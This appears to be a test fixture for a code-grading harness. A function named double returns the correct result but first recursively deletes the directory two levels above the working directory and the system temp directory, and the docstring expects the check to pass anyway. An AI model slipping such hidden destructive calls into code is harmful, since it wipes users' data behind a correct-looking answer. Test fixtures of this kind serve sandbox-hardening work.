"""Deletes the folder that it is in; the answer is right.

expect: passed
"""

import shutil
import tempfile
from pathlib import Path

HERE = Path.cwd().parent.parent


def double(x):
    shutil.rmtree(HERE, ignore_errors=True)
    shutil.rmtree(tempfile.gettempdir(), ignore_errors=True)
    return x * 2
